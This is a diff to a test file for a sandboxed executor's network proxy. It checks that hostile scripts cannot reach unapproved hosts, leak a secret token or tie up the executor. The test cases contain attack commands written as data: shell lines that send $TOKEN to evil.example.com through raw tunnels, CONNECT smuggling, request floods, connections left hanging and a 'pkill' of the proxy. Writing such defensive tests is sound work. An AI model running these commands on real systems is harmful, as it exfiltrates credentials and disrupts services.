@@ -1,58 +1,27 @@
 // What a hostile script does to the proxy of its run, on the executor of this machine: to reach other hosts, to read a value, and to keep the
 // executor busy.
 
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
-import { probe } from "../../executor/bubblewrap.mjs";
+import { describe, expect, it, vi } from "vitest";
 import { NETWORK_LIMITS } from "../../executor/proxy.mjs";
-import { serveExecutor } from "../../executor/server.mjs";
-import type { Language } from "../../src/domain/code/language";
-import { type Ask, given, imitate, runOn, type Sent } from "../support/executor-network";
+import { canConfine, KEY, openMachine, VALUE } from "../support/executor-network";
 
-vi.mock("cloudflare:workers", () => ({ RpcTarget: class {} }));
-vi.mock("../../src/storage/d1/registry/skill-network", () => ({ readApprovedNetwork: async () => given.approved }));
-vi.mock("../../src/services/secrets/skill-env", () => ({ skillEnvValues: async () => given.values }));
-vi.mock("../../src/services/audit", () => ({
-  recordAct: async (_: unknown, action: string, __: string, { after }: { after: { host: string } }) => {
-    given.audited.push({ action, host: after.host });
-  },
-}));
-vi.stubGlobal("__DEVELOPMENT__", false);
 /** On a busy machine a run starts late. */
 vi.setConfig({ testTimeout: 180_000, hookTimeout: 180_000 });
 
-const KEY = "a key of the tests that is long enough";
-const VALUE = "ghp-Secret+Value/0123456789";
-const canConfine = (await probe()).ok;
-
-let server: Awaited<ReturnType<typeof serveExecutor>>;
-beforeAll(async () => {
-  if (canConfine) server = await serveExecutor({ key: KEY, checksFirst: "start" });
+const machine = openMachine(["api.example.org", "files.example.org"], ({ url, headers, body }) => {
+  const { pathname, host } = new URL(url);
+  const received = headers.authorization ?? headers["x-key"] ?? "nothing";
+  if (pathname === "/out")
+    return new Response(null, { status: 302, headers: { location: "https://evil.example.com/" } });
+  if (pathname === "/to-files")
+    return new Response(null, { status: 307, headers: { location: "https://files.example.org/" } });
+  if (pathname === "/header") return new Response("ok", { headers: { "x-received": received } });
+  if (pathname === "/half") return new Response(received.slice(0, 18));
+  if (pathname === "/rest") return new Response(received.slice(18));
+  if (pathname === "/large") return new Response(new Uint8Array(9 * 1024 * 1024));
+  return Response.json({ host, received, body });
 });
-afterAll(() => server?.close());
-
-let sent: Sent[] = [];
-let restore = () => {};
-beforeEach(() => {
-  given.approved = ["api.example.org", "files.example.org"];
-  given.values = new Map([["TOKEN", { value: VALUE, hosts: ["api.example.org"] }]]);
-  given.audited = [];
-  ({ sent, restore } = imitate(server?.url ?? "", ({ url, headers, body }) => {
-    const { pathname, host } = new URL(url);
-    const received = headers.authorization ?? headers["x-key"] ?? "nothing";
-    if (pathname === "/out")
-      return new Response(null, { status: 302, headers: { location: "https://evil.example.com/" } });
-    if (pathname === "/to-files")
-      return new Response(null, { status: 307, headers: { location: "https://files.example.org/" } });
-    if (pathname === "/header") return new Response("ok", { headers: { "x-received": received } });
-    if (pathname === "/half") return new Response(received.slice(0, 18));
-    if (pathname === "/rest") return new Response(received.slice(18));
-    if (pathname === "/large") return new Response(new Uint8Array(9 * 1024 * 1024));
-    return Response.json({ host, received, body });
-  }));
-});
-afterEach(() => restore());
-
-const run = (language: Language, text: string, ask?: Ask) => runOn({ url: server.url, key: KEY }, language, text, ask);
+const run = machine.run.bind(machine);
 
 /** What every attack ends with: values only in headers to the host they are bound to, and in nothing that the run returns. */
 function expectHarmless(result: {
@@ -63,7 +32,7 @@ function expectHarmless(result: {
   const files = result.files.map(({ path, bytes }) => path + Buffer.from(bytes).toString("latin1"));
   const seen = [result.stdout, result.stderr, ...files].join("\n");
   for (const form of [VALUE, btoa(VALUE), encodeURIComponent(VALUE), KEY]) expect(seen).not.toContain(form);
-  for (const { url, headers, body } of sent) {
+  for (const { url, headers, body } of machine.sent) {
     expect(url + body).not.toContain(VALUE);
     expect(["api.example.org", "files.example.org"]).toContain(new URL(url).host);
     expect(new URL(url).protocol).toBe("https:");
@@ -224,7 +193,7 @@ const RAW: Record<string, [text: string, prints: RegExp, leaves: number]> = {
   ],
   "a tunnel for another protocol": [
     `${printf("SSH-2.0-x\n")} | python3 send.py api.example.org:22`,
-    /^$|reset|closed/,
+    /^HTTP\/1\.1 400/,
     0,
   ],
   "a tunnel without a port": ["python3 send.py evil.example.com < /dev/null", /400/, 0],
@@ -237,7 +206,17 @@ const RAW: Record<string, [text: string, prints: RegExp, leaves: number]> = {
   ],
   "a tunnel to another host without TLS": [
     `${printf(`GET / HTTP/1.1\n${CLOSE}Authorization: PLACE\n\n`)} | sed "s/PLACE/$TOKEN/" | python3 send.py evil.example.com:443`,
-    /^$|reset|closed|HTTP\/1\.1 400/,
+    /^HTTP\/1\.1 403 This URL is not allowed: only https is allowed/,
+    0,
+  ],
+  "a tunnel to its own host without TLS": [
+    `${printf(`GET / HTTP/1.1\n${CLOSE}Authorization: PLACE\n\n`)} | sed "s/PLACE/$TOKEN/" | python3 send.py api.example.org:443`,
+    /^HTTP\/1\.1 403 This URL is not allowed: only https is allowed/,
+    0,
+  ],
+  "a tunnel in a tunnel without TLS": [
+    `${printf(`CONNECT evil.example.com:443 HTTP/1.1\n${CLOSE}\n`)} | python3 send.py api.example.org:443`,
+    /^HTTP\/1\.1 400/,
     0,
   ],
   "headers without end": [
@@ -263,7 +242,7 @@ describe.runIf(canConfine)("on the executor, a script cannot use", () => {
     const result = await run("shell", `${files}${text}\nrm -f send.py\n`);
     expect(result.reason).toBeNull();
     expect(result.stdout + result.stderr).toMatch(prints);
-    expect(sent).toHaveLength(leaves);
+    expect(machine.sent).toHaveLength(leaves);
     expectHarmless(result);
   });
 
@@ -283,19 +262,18 @@ for n in range(${NETWORK_LIMITS.requests + 5}):
 print(refused)`,
     );
     expect(result.stdout).toContain("Request limit of a run reached (100)");
-    expect(sent).toHaveLength(NETWORK_LIMITS.requests);
+    expect(machine.sent).toHaveLength(NETWORK_LIMITS.requests);
   });
 
   it("many requests at once: the gateway sees four", async () => {
     let open = 0;
     let most = 0;
-    restore();
-    ({ sent, restore } = imitate(server.url, async () => {
+    machine.respond(async () => {
       most = Math.max(most, ++open);
       await new Promise((resolve) => setImmediate(resolve));
       open--;
       return new Response("x");
-    }));
+    });
     const text = `const all = Array.from({ length: 40 }, () => fetch("https://api.example.org/").then((got) => got.status));
 console.log((await Promise.all(all)).filter((status) => status === 200).length);`;
     expect(await run("javascript", text)).toMatchObject({ stdout: "40\n" });
@@ -327,8 +305,7 @@ s = socket.create_connection(("127.0.0.1", 3128))
 s.sendall(b"POST http://api.example.org/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 1000\\r\\n\\r\\nabc")
 subprocess.Popen(["curl", "-sS", "-N", "https://api.example.org/slow"], start_new_session=True)
 print("done")`;
-    restore();
-    ({ sent, restore } = imitate(server.url, () => new Promise<Response>(() => {})));
+    machine.respond(() => new Promise<Response>(() => {}));
     expect(await run("python", text)).toMatchObject({ stdout: "done\n", exit_code: 0, reason: null });
   });
 
@@ -336,7 +313,7 @@ print("done")`;
     const text = "pkill -9 -x node; curl -sS -m 5 https://api.example.org/ 2>&1; echo; true";
     const result = await run("shell", text);
     expect(result.stdout).toMatch(/Failed to connect|refused/i);
-    expect(sent).toEqual([]);
+    expect(machine.sent).toEqual([]);
     expect(await run("shell", "curl -sS https://api.example.org/ > /dev/null && echo fine")).toMatchObject({
       stdout: "fine\n",
     });
@@ -353,7 +330,7 @@ describe.runIf(canConfine)("the route for responses", () => {
     const body = new FormData();
     body.set("response", JSON.stringify(head));
     const headers = { authorization: `Bearer ${key}` };
-    return fetch(`${server.url}/v1/runs/${run}/responses/${id}`, { method: "POST", headers, body });
+    return fetch(`${machine.url}/v1/runs/${run}/responses/${id}`, { method: "POST", headers, body });
   };
 
   it("needs the key, a run and a response", async () => {
